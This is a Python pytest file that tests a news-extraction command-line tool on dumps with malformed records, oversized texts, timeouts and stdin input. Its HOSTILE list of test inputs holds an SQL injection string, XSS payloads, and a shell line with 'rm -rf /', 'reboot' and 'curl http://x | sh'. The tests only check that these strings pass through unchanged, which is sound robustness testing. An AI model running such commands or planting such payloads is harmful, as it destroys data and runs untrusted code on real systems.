"""`newsextract extract` end to end on dumps with broken records.

A dump holds good articles and, in every position (first line, middle, last
line without a newline), records that cannot be processed: bad JSON, a JSON
value that is not an object, a missing or non-string text, invalid UTF-8, an
empty text. Each must be reported in the errors output with its file, line and
reason, every good record must be written in input order, and the exit status
must say whether anything was skipped (0 nothing, 1 something). A record of
several MB is read, its analysis cut at --max-chars with a `text_truncated`
warning; hostile strings come out in the JSON record exactly as they went in.

Each CLI run loads the model once (a few seconds), so the cases share runs.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent

GOOD_TEXT = "Russia and Ukraine swapped 95 prisoners each on Saturday, the Defence Ministry said."
BIG_TEXT = "\n\n".join(["Aid convoys reached 12 villages in Assam on Tuesday, officials said."] * 60_000)  # ~4.3 MB
HOSTILE = [
    "Robert'); DROP TABLE records;-- said 3 people were freed.",
    "$(rm -rf /) `reboot` && curl http://x | sh ${IFS} %s%n {0}",
    "<script>alert('x')</script><img src=x onerror=alert(1)> </textarea> ]]> <!--",
    "NUL here:\x00 and \x00\x00 twice, a bell \x07 and ESC \x1b[31m",
    "A token " + "x" * 120_000 + " ends here.",
    '"}\n{"text": "injected"}',
    "مرحبا \u202eevil\u202c 👨\u200d👩\u200d👧 \\u0000 \\ back\\slash",
]


def good(n: int, **extra) -> bytes:
    row = {"id": f"good-{n}", "text": f"{GOOD_TEXT} Item {n}.", **extra}
    return json.dumps(row, ensure_ascii=False).encode("utf-8")


# each broken line, the reason's key words, and a name for the case
BROKEN = [
    (b'{"id": "x", "text": "unterminated', "json", "bad JSON"),
    (b"[1, 2, 3]", "object", "array"),
    (b'"just a string"', "object", "string value"),
    (b"42", "object", "number value"),
    (b"null", "object", "null value"),
    (b'{"id": "no-text", "title": "t"}', "text", "missing text"),
    (b'{"id": "int-text", "text": 5}', "text", "number text"),
    (b'{"id": "null-text", "text": null}', "text", "null text"),
    (b'{"id": "list-text", "text": ["a", "b"]}', "text", "list text"),
    (b'{"id": "obj-text", "text": {"a": 1}}', "text", "object text"),
    (b'{"id": "latin1", "text": "caf\xe9 au lait"}', "utf", "invalid UTF-8"),
    (b'{"id": "empty", "text": ""}', "empty", "empty text"),
    (b'{"id": "blank", "text": "  \\n\\t "}', "empty", "blank text"),
    (b'{"id": "raw-nul", "text": "a\x00b"}', "json", "raw control character"),
    (b'{"id": "garbage", "text": "' + b"x" * 3_000_000 + b'', "json", "several MB of bad JSON"),
]


def run_cli(tmp_path: Path, *paths: Path, extra=()) -> tuple[int, list[dict], list[dict], str]:
    out, err = tmp_path / "out.jsonl", tmp_path / "err.jsonl"
    for f in (out, err):
        if f.exists():
            f.unlink()
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    proc = subprocess.run(
        [sys.executable, "-m", "newsextract", "extract", *map(str, paths), "-o", str(out), "--errors", str(err),
         "-q", *extra],
        capture_output=True, cwd=ROOT, env=env, timeout=600)
    records = [json.loads(line) for line in out.read_text("utf-8").splitlines()] if out.exists() else []
    errors = [json.loads(line) for line in err.read_text("utf-8").splitlines()] if err.exists() else []
    return proc.returncode, records, errors, proc.stderr.decode("utf-8", "replace")


def file_and_line(entry: dict) -> tuple[str, int]:
    """Where an errors entry points: {"file", "line"}, or {"source": "file:line"}."""
    if "file" in entry:
        return entry["file"], entry["line"]
    source, _, line = entry["source"].rpartition(":")
    return source, int(line)


@pytest.fixture(scope="module")
def broken_dump_run(tmp_path_factory):
    """One run over two dumps: broken records first, in the middle, last (no final
    newline); the several-MB good record; hostile strings; blank lines; a BOM; CRLF."""
    tmp = tmp_path_factory.mktemp("dumps")
    lines: list[bytes] = []
    expected_errors: dict[int, tuple[str, str]] = {}
    expected_good: list[str] = []
    n = 0
    for i, (line, reason, name) in enumerate(BROKEN):
        lines.append(line)
        expected_errors[len(lines)] = (reason, name)
        if i % 3 != 2:                      # sometimes two broken records in a row
            n += 1
            lines.append(good(n))
            expected_good.append(f"good-{n}")
    lines.append(b"")                         # a blank line is not a record
    lines.append(json.dumps({"id": "big", "text": BIG_TEXT}).encode())
    expected_good.append("big")
    for j, text in enumerate(HOSTILE):
        lines.append(json.dumps({"id": f"hostile-{j}", "text": text}, ensure_ascii=j % 2 == 0).encode())
        expected_good.append(f"hostile-{j}")
    lines.append(json.dumps({"id": "surrogate-title", "text": GOOD_TEXT, "title": "\ud800"}).encode())
    expected_good.append("surrogate-title")
    lines.append(BROKEN[0][0])                # broken on the last line, no newline after it
    expected_errors[len(lines)] = BROKEN[0][1:]
    dump = tmp / "dump.jsonl"
    dump.write_bytes(b"\n".join(lines))

    crlf = tmp / "crlf.jsonl"                 # BOM, CRLF line ends, broken first line
    crlf.write_bytes(b"\xef\xbb\xbf" + b"\r\n".join([BROKEN[1][0], good(100), good(101)]) + b"\r\n")
    status, records, errors, stderr = run_cli(tmp, dump, crlf, extra=["--max-chars", "20000"])
    return dict(status=status, records=records, errors=errors, stderr=stderr, dump=dump, crlf=crlf,
                expected_errors=expected_errors, expected_good=expected_good + ["good-100", "good-101"])


def test_every_broken_record_is_reported_with_file_line_and_reason(broken_dump_run):
    run = broken_dump_run
    by_place = {file_and_line(e): e for e in run["errors"]}
    expected = {(str(run["dump"]), line): why for line, why in run["expected_errors"].items()}
    expected[(str(run["crlf"]), 1)] = BROKEN[1][1:]
    assert set(by_place) == set(expected), run["stderr"][-2000:]
    for place, (reason, name) in expected.items():
        message = by_place[place]["error"].lower()
        assert reason in message, f"{name} at {place}: {message!r}"


def test_every_good_record_is_written_in_order(broken_dump_run):
    ids = [r["id"] for r in broken_dump_run["records"]]
    assert ids == broken_dump_run["expected_good"], broken_dump_run["stderr"][-2000:]


def test_exit_status_says_records_were_skipped(broken_dump_run):
    assert broken_dump_run["status"] == 1


def test_a_record_of_several_mb_is_read_and_its_analysis_cut(broken_dump_run):
    [big] = [r for r in broken_dump_run["records"] if r["id"] == "big"]
    assert big["text"] == BIG_TEXT
    [warning] = [w for w in big["warnings"] if w["code"] == "text_truncated"]
    assert "limit 20000" in warning["message"]
    assert all(m["end"] <= 20000 for e in big["entities"] for m in e["mentions"])


def test_hostile_strings_come_out_exactly_as_they_went_in(broken_dump_run):
    records = {r["id"]: r for r in broken_dump_run["records"]}
    for j, text in enumerate(HOSTILE):
        assert records[f"hostile-{j}"]["text"] == text
    assert records["surrogate-title"]["title"] == "\ufffd"


def test_the_output_is_valid_json_lines_against_the_schema(broken_dump_run):
    from test_properties import offset_problems, schema_validator

    for record in broken_dump_run["records"]:
        assert not list(schema_validator().iter_errors(record))
        assert offset_problems(record) == []


def test_a_clean_dump_exits_zero(tmp_path):
    dump = tmp_path / "clean.jsonl"
    dump.write_bytes(b"\n".join([good(1), good(2)]) + b"\n")
    text_file = tmp_path / "one.txt"
    text_file.write_text("KYIV — " + GOOD_TEXT + "\n", "utf-8")
    status, records, errors, stderr = run_cli(tmp_path, dump, text_file)
    assert status == 0, stderr
    assert [r["id"] for r in records] == ["good-1", "good-2", "one"]
    assert errors == []


def test_unreadable_files_are_reported_and_the_run_goes_on(tmp_path):
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    latin1 = tmp_path / "latin1.txt"
    latin1.write_bytes("café".encode("latin-1"))
    bad_json = tmp_path / "bad.json"
    bad_json.write_bytes(b'{"text": ')
    dump = tmp_path / "ok.jsonl"
    dump.write_bytes(good(1) + b"\n")
    array = tmp_path / "array.json"           # a JSON array of articles, two of them broken
    array.write_bytes(b"[" + good(2) + b",\n 5,\n " + b'{"id": "e", "text": ""}' + b",\n " + good(3) + b"]\n")
    status, records, errors, stderr = run_cli(tmp_path, empty, latin1, bad_json, tmp_path / "missing.jsonl", dump,
                                              array)
    assert status == 1
    assert [r["id"] for r in records] == ["good-1", "good-2", "good-3"]
    reported = {Path(e.get("file") or e["source"].rsplit(":", 1)[0]).name for e in errors}
    assert {"empty.txt", "latin1.txt", "bad.json", "missing.jsonl"} <= reported, stderr
    assert sorted(line for file, line in map(file_and_line, [e for e in errors if "array" in str(e)])) == [2, 3]


def test_output_does_not_depend_on_the_hash_seed(tmp_path):
    """Same input, same bytes out, in two processes with different string hashing
    (a set or dict of strings iterated in hash order would change the record)."""
    outputs = []
    for seed in ("1", "2"):
        out = tmp_path / f"out-{seed}.jsonl"
        env = dict(os.environ, PYTHONHASHSEED=seed)
        subprocess.run([sys.executable, "-m", "newsextract", "extract", str(ROOT / "examples"), "-o", str(out), "-q"],
                       check=True, cwd=ROOT, env=env, timeout=600, capture_output=True)
        outputs.append(out.read_bytes())
    assert outputs[0] and outputs[0] == outputs[1]


def test_worker_processes_give_the_same_records_and_errors(broken_dump_run, tmp_path):
    status, records, errors, stderr = run_cli(tmp_path, broken_dump_run["dump"], broken_dump_run["crlf"],
                                              extra=["--max-chars", "20000", "--workers", "2"])
    assert status == broken_dump_run["status"], stderr[-2000:]
    assert records == broken_dump_run["records"]
    assert sorted(map(file_and_line, errors)) == sorted(map(file_and_line, broken_dump_run["errors"]))


# ---------------------------------------------------------------- time limit, stdin, closed stdout

EMOJI_RUN = "Residents posted " + "\U0001F600" * 40_000 + " online."
QUOTE_RUN = "He said " + '"' * 40_000 + " nothing."


@pytest.mark.parametrize("workers", ["1", "2"])
def test_an_article_over_the_time_limit_is_reported_and_the_run_goes_on(tmp_path, workers):
    dump = tmp_path / "dump.jsonl"
    rows = [good(1), json.dumps({"id": "emoji", "text": EMOJI_RUN}).encode(), good(2),
            json.dumps({"id": "quotes", "text": QUOTE_RUN}).encode(), good(3)]
    dump.write_bytes(b"\n".join(rows) + b"\n")
    status, records, errors, stderr = run_cli(tmp_path, dump, extra=["--timeout", "3", "--workers", workers,
                                                                     "--batch-size", "2"])
    assert status == 1, stderr
    assert [r["id"] for r in records] == ["good-1", "good-2", "good-3"]
    assert [(e["id"], e["line"]) for e in errors] == [("emoji", 2), ("quotes", 4)]
    assert all("time limit of 3 s" in e["error"] for e in errors)


def test_texts_on_stdin_get_ids_from_their_text_so_a_second_does_not_replace_the_first(tmp_path):
    import sqlite3

    db = tmp_path / "news.db"
    for text in ("Rain fell on Lima on Monday.", "Snow fell on Riga on Tuesday."):
        done = subprocess.run([sys.executable, "-m", "newsextract", "extract", "-", "--db", str(db), "-q"],
                              input=text.encode(), capture_output=True, cwd=ROOT, timeout=600)
        assert done.returncode == 0, done.stderr
    with sqlite3.connect(db) as conn:
        ids = sorted(row[0] for row in conn.execute("SELECT id FROM articles"))
    assert len(ids) == 2 and all(i.startswith("sha256:") for i in ids)


@pytest.mark.parametrize("command", [["schema", "--sql", "postgresql"], ["schema"]])
def test_a_closed_stdout_ends_quietly(command):
    read_end, write_end = os.pipe()
    os.close(read_end)                                # like `| head -1` once it has its line
    done = subprocess.run([sys.executable, "-m", "newsextract", *command], stdout=write_end,
                          stderr=subprocess.PIPE, cwd=ROOT, timeout=120)
    os.close(write_end)
    assert done.stderr == b"" and done.returncode == 141
